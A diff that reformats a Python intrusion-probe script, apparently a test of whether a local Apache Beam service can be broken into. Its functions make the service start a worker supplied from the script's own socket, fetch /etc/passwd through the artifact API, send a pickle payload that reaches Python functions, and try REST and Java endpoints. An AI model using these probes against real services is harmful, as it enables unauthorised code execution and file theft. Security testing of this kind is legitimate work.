@@ -1,6 +1,7 @@
 """Somebody who tries to get into a local program; prints what worked.
 
-Arguments: the id of a user to become, a host, and doors: ports there, and addresses of unix sockets.
+Arguments: the id of a user to become, a host, and doors: ports there, and addresses of unix
+    sockets.
 """
 
 from __future__ import annotations
@@ -34,15 +35,23 @@ _TO_PYTHON = b"c\np0\ngetPythonFunction\nsos\nspath\ne\n"
 
 def starts_a_worker(address: str) -> bool:
     """Have the program fetch its work from here."""
-    with socket.create_server((_own_address(address), 0)) as here, grpc.insecure_channel(address) as channel:
+    with (
+        socket.create_server((_own_address(address), 0)) as here,
+        grpc.insecure_channel(address) as channel,
+    ):
         here.settimeout(_ANSWER_S)
         endpoint = endpoints_pb2.ApiServiceDescriptor(url="{}:{}".format(*here.getsockname()))
         request = beam_fn_api_pb2.StartWorkerRequest(
             worker_id="1-1", provision_endpoint=endpoint, params={"INTRUDER": "was here"}
         )
-        call = beam_fn_api_pb2_grpc.BeamFnExternalWorkerPoolStub(channel).StartWorker.future(request, timeout=_ANSWER_S)
+        call = beam_fn_api_pb2_grpc.BeamFnExternalWorkerPoolStub(channel).StartWorker.future(
+            request, timeout=_ANSWER_S
+        )
         # The program answers only when its worker has ended.
-        return call.code() in (grpc.StatusCode.OK, grpc.StatusCode.DEADLINE_EXCEEDED) and _is_connected(here)
+        return call.code() in (
+            grpc.StatusCode.OK,
+            grpc.StatusCode.DEADLINE_EXCEEDED,
+        ) and _is_connected(here)
 
 
 def _own_address(address: str) -> str:
@@ -65,7 +74,9 @@ def reads_a_file(address: str) -> bool:
     """Have Beam send a file of the program's user."""
     file = beam_runner_api_pb2.ArtifactFilePayload(path="/etc/passwd").SerializeToString()
     request = beam_artifact_api_pb2.GetArtifactRequest(
-        artifact=beam_runner_api_pb2.ArtifactInformation(type_urn="beam:artifact:type:file:v1", type_payload=file)
+        artifact=beam_runner_api_pb2.ArtifactInformation(
+            type_urn="beam:artifact:type:file:v1", type_payload=file
+        )
     )
     with grpc.insecure_channel(address) as channel, contextlib.suppress(grpc.RpcError):
         service = beam_artifact_api_pb2_grpc.ArtifactRetrievalServiceStub(channel)
@@ -96,13 +107,22 @@ def calls_python(address: str) -> bool:
 
 def _said(address: str, message: bytes) -> bytes:
     host, _, port = address.rpartition(":")
-    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), timeout=_ANSWER_S) as line:
+    with (
+        contextlib.suppress(OSError),
+        socket.create_connection((host, int(port)), timeout=_ANSWER_S) as line,
+    ):
         line.sendall(message)
         return line.recv(10_000)
     return b""
 
 
-ALL: list[Callable[[str], bool]] = [starts_a_worker, reads_a_file, reaches_rest, calls_java, calls_python]
+ALL: list[Callable[[str], bool]] = [
+    starts_a_worker,
+    reads_a_file,
+    reaches_rest,
+    calls_java,
+    calls_python,
+]
 
 
 def main(user: str, host: str, *doors: str) -> None:
@@ -112,11 +132,23 @@ def main(user: str, host: str, *doors: str) -> None:
         os.setgid(int(user))
         os.setuid(int(user))
     attempts = [
-        (each, door if ":" in door else f"{host}:{door}") for door in doors for each in (ALL if ":" not in door else ALL[:1])
+        (each, door if ":" in door else f"{host}:{door}")
+        for door in doors
+        for each in (ALL if ":" not in door else ALL[:1])
     ]
     with ThreadPoolExecutor(len(attempts)) as pool:
         worked = pool.map(lambda attempt: attempt[0](attempt[1]), attempts)
-        print(json.dumps(sorted({attempt.__name__ for (attempt, _), has_worked in zip(attempts, worked) if has_worked})))
+        print(
+            json.dumps(
+                sorted(
+                    {
+                        attempt.__name__
+                        for (attempt, _), has_worked in zip(attempts, worked)
+                        if has_worked
+                    }
+                )
+            )
+        )
 
 
 if __name__ == "__main__":
